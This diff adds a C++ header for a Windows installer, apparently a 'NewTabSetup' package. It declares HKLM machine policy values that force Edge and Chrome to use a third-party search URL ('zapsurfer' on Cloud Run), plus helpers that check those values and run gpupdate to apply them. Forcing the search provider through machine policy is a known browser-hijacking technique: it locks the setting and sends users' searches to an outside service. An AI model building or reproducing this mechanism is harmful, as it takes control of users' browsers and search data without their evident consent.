@@ -0,0 +1,127 @@
+#pragma once
+
+#include <cstddef>
+#include <cstdint>
+#include <string>
+#include <vector>
+
+// Machine policy values the installer sets so the browsers use our search provider. They
+// mirror the RegistryValue elements of NewTabSetup/SearchEngine.wxs; keep the two in step.
+
+enum class PolicyValueType {
+    Dword,
+    String
+};
+
+struct PolicyValue {
+    const wchar_t* key;   // Under HKEY_LOCAL_MACHINE
+    const wchar_t* name;
+    PolicyValueType type;
+    uint32_t number;      // Dword values
+    const wchar_t* text;  // String values
+};
+
+constexpr const wchar_t kSearchProviderUrl[] = L"https://zapsurfer-service-wleidfkznq-uw.a.run.app/search?q={searchTerms}";
+
+constexpr PolicyValue kSearchPolicyValues[] = {
+    { L"Software\\Policies\\Microsoft\\Edge", L"DefaultSearchProviderEnabled", PolicyValueType::Dword, 1, nullptr },
+    { L"Software\\Policies\\Microsoft\\Edge", L"DefaultSearchProviderSearchURL", PolicyValueType::String, 0, kSearchProviderUrl },
+    { L"Software\\Policies\\Google\\Chrome", L"DefaultSearchProviderEnabled", PolicyValueType::Dword, 1, nullptr },
+    { L"Software\\Policies\\Google\\Chrome", L"DefaultSearchProviderSearchURL", PolicyValueType::String, 0, kSearchProviderUrl }
+};
+
+constexpr size_t kSearchPolicyValueCount = sizeof(kSearchPolicyValues) / sizeof(kSearchPolicyValues[0]);
+
+// Read access to machine policy values. The Windows implementation lives in
+// BrowserUpdater.cpp; an in-memory implementation can stand in for it off Windows.
+class PolicyReader {
+public:
+    virtual ~PolicyReader() = default;
+
+    // Return false if the value is absent or of another type
+    virtual bool ReadDword(const wchar_t* key, const wchar_t* name, uint32_t& value) = 0;
+    virtual bool ReadString(const wchar_t* key, const wchar_t* name, std::wstring& value) = 0;
+};
+
+enum class ProcessOutcome {
+    Exited,
+    TimedOut,       // Still running at the deadline; it and its children were stopped
+    FailedToStart
+};
+
+struct ProcessResult {
+    ProcessOutcome outcome = ProcessOutcome::FailedToStart;
+    uint32_t exitCode = 0;  // Exited only
+};
+
+// Runs a command line to completion or to a deadline. The Windows implementation places the
+// process in a job object, so a deadline stops everything it started; a fake can stand in
+// for it off Windows.
+class ProcessRunner {
+public:
+    virtual ~ProcessRunner() = default;
+
+    virtual ProcessResult Run(const std::wstring& commandLine, uint32_t timeoutMilliseconds) = 0;
+};
+
+struct PolicyRefreshOptions {
+    std::wstring systemDirectory;
+    // How long gpupdate waits for policy processing before it returns; processing then goes
+    // on in the Group Policy service without holding up the install
+    uint32_t waitSeconds = 20;
+    // Extra time gpupdate gets to return after its wait before it is stopped
+    uint32_t graceSeconds = 10;
+};
+
+// How the policy values compare with what the package declares
+struct PolicyComparison {
+    size_t matching = 0;
+    std::vector<const PolicyValue*> differing;
+};
+
+PolicyComparison ComparePolicyValues(PolicyReader& reader, const PolicyValue* values, size_t count, bool expectPresent);
+
+// The installation writes the registry in its deferred script, so whether it changes the
+// search provider values is decided before that, by an immediate custom action, and handed
+// to the deferred refresh in its CustomActionData: "changed" if a value differs from what the
+// installation leaves behind, otherwise "unchanged"
+const wchar_t* PolicyChangeState(const PolicyComparison& comparison);
+
+// CustomActionData of the deferred refresh: the change state, then the trace folder
+struct PolicyUpdateData {
+    bool policyChanged = true;  // A missing state refreshes, as the check may not have run
+    std::wstring traceDirectory;
+};
+
+// Returns false if the state is not one of the above
+bool ParsePolicyUpdateData(const std::wstring& data, PolicyUpdateData& parsed);
+
+// Refreshes only the computer policy; the search provider values are machine policies
+std::wstring PolicyRefreshCommand(const PolicyRefreshOptions& options);
+
+// Deadline for the refresh process, past which it is stopped
+uint32_t PolicyRefreshTimeout(const PolicyRefreshOptions& options);
+
+enum class PolicyRefreshOutcome {
+    AlreadyCurrent,  // The installation did not change the values; nothing was run
+    Refreshed,       // gpupdate exited with 0
+    Failed,          // gpupdate exited with another code
+    TimedOut,
+    NotStarted
+};
+
+struct PolicyRefreshResult {
+    PolicyRefreshOutcome outcome = PolicyRefreshOutcome::NotStarted;
+    uint32_t exitCode = 0;
+    uint64_t milliseconds = 0;  // Time spent in the refresh process
+};
+
+// Runs a computer policy refresh bounded by the timeout, only if the installation changed
+// the search provider values
+PolicyRefreshResult RefreshSearchPolicy(bool policyChanged, ProcessRunner& runner, const PolicyRefreshOptions& options);
+
+// One log line for a result, e.g. "Policy refresh timed out after 30000 ms and was stopped"
+std::string DescribePolicyRefresh(const PolicyRefreshResult& result);
+
+// Name of a policy value for the log, e.g. "Software\Policies\Google\Chrome\DefaultSearchProviderEnabled"
+std::wstring PolicyValuePath(const PolicyValue& value);